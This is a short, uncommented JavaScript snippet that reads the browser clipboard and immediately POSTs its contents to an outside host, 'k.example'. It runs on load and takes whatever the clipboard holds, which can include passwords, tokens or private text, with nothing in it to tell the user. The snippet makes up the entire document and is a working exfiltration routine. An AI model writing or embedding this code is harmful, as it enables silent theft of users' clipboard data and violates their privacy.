async function run() {
  const text = await navigator.clipboard.readText();
  await fetch('https://k.example', { method: 'POST', body: text });
}
run();
